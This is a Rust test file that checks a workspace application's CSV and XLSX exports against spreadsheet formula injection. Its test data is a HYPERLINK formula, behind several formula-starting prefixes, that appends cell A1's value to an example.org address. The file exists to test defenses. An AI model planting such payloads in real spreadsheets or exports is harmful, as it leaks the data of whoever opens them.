//! What people type is never a formula for whoever opens a table: every paper that is a table, as CSV and as a
//! workbook, of data in which every text begins like one.

#![allow(clippy::unwrap_used, reason = "a test stops at the first surprise")]

#[allow(dead_code, reason = "each test uses its own part of the scene")]
#[path = "support/scene.rs"]
mod scene;

use std::io::{Cursor, Read as _};
use std::ops::ControlFlow;

use scene::{Scene, day, item};
use tekseru::domain::answer::{Answer, Verdict};
use tekseru::domain::finding::{Finding, Severity};
use tekseru::domain::instruction::Assignment;
use tekseru::domain::recipient::Recipient;
use tekseru::domain::text::Lang;
use tekseru::i18n::Texts;
use tekseru::report;
use tekseru::workspace::command::{Command, Created};
use tekseru::workspace::export::{Order, Shape};
use tekseru::workspace::papers::{PAPERS, Scope};
use tekseru::workspace::publish::Existing;

/// How a text begins that a spreadsheet would carry out.
const BEGINNINGS: [&str; 8] = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝"];
const REST: &str = "HYPERLINK(\"http://example.org/\"&A1,\"смотри\")";

/// A visit of which every text that is typed begins like a formula.
fn hostile(scene: &mut Scene) {
    for (number, begins) in BEGINNINGS.iter().enumerate() {
        let text = format!("{begins}{REST}");
        let code = format!("RIG-0{}", number + 1);
        let answer = Answer { note: text.clone(), ..Answer::new(Verdict::NonCompliant) };
        let visit = scene.visit;
        let command = Command::RecordAnswer { visit, item: item(&code), answer };
        scene.workspace.execute(command).unwrap();
        let finding = Finding::new(visit, Some(item(&code)), &text, Severity::High);
        let done = scene.workspace.execute(Command::RaiseFinding(finding)).unwrap();
        let [Created::Finding(finding)] = done.created[..] else { panic!("{done:?}") };
        let assignment = Assignment {
            round: scene.round,
            findings: vec![finding],
            task: text.clone(),
            lead: scene.body,
            co_executors: Vec::new(),
            deadline: day("2025-09-30"),
            completion: text,
            controller: None,
        };
        scene.workspace.execute(Command::IssueInstruction(assignment)).unwrap();
    }
}

/// Every paper of the data in a format, for everybody who may have it.
fn every_paper(scene: &mut Scene, format: &str, mut look: impl FnMut(&str, &[u8])) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(format!("paper.{format}"));
    for paper in PAPERS {
        for recipient in [Recipient::Commission, Recipient::Body] {
            let scope = Scope {
                round: Some(scene.round),
                visit: Some(scene.visit),
                body: (recipient == Recipient::Body).then_some(scene.body),
                recipient,
                ..Scope::of_all(day("2025-08-26"))
            };
            let order = Order {
                paper,
                format: report::format(format).unwrap(),
                scope,
                beside: None,
                shape: Shape::Usual,
            };
            let place = (path.as_path(), Existing::Replace);
            let made = scene
                .workspace
                .export(&order, Texts::load(Lang::Ru), place, &mut |_| ControlFlow::Continue(()));
            // Not every paper goes to everybody or is about a round.
            if made.is_ok() {
                look(paper.id, &std::fs::read(&path).unwrap());
            }
        }
    }
}

#[test]
fn no_cell_of_a_csv_file_begins_like_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let mut scene = Scene::new(dir.path());
    hostile(&mut scene);
    let (mut papers, mut defused) = (0, 0);
    every_paper(&mut scene, "csv", |paper, bytes| {
        papers += 1;
        let text = std::str::from_utf8(bytes).unwrap().trim_start_matches('\u{FEFF}');
        let lines = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes())
            .into_records();
        for line in lines {
            for cell in &line.unwrap() {
                let begins = BEGINNINGS.iter().any(|begins| cell.starts_with(begins));
                let number = cell.replace(',', ".").parse::<f64>().is_ok();
                assert!(!begins || number, "{paper}: {cell:?}");
                assert!(!cell.starts_with(['\t', '\r', '\n']), "{paper}: {cell:?}");
                defused += usize::from(cell.starts_with('\'') && cell.contains("HYPERLINK"));
            }
        }
    });
    assert!(papers >= 5 && defused >= 2 * BEGINNINGS.len(), "{papers} papers, {defused} cells");
}

#[test]
fn no_cell_of_a_workbook_is_a_formula_or_a_link() {
    let dir = tempfile::tempdir().unwrap();
    let mut scene = Scene::new(dir.path());
    hostile(&mut scene);
    let (mut sheets, mut texts) = (0, 0);
    every_paper(&mut scene, "xlsx", |paper, bytes| {
        let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
        for place in 0..archive.len() {
            let mut part = archive.by_index(place).unwrap();
            let name = part.name().unwrap().into_owned();
            let mut content = String::new();
            if part.read_to_string(&mut content).is_err() {
                continue;
            }
            texts += content.matches("HYPERLINK").count();
            if name.starts_with("xl/worksheets/") {
                sheets += 1;
                // A condition by which a row is coloured is the program's own.
                for mark in ["<f>", "<f ", "<hyperlink"] {
                    assert!(!content.contains(mark), "{paper}: {name} has {mark}");
                }
            }
            assert!(!name.contains("externalLink") && !name.contains("vbaProject"), "{name}");
        }
    });
    assert!(sheets >= 5 && texts >= 2 * BEGINNINGS.len(), "{sheets} sheets, {texts} texts");
}
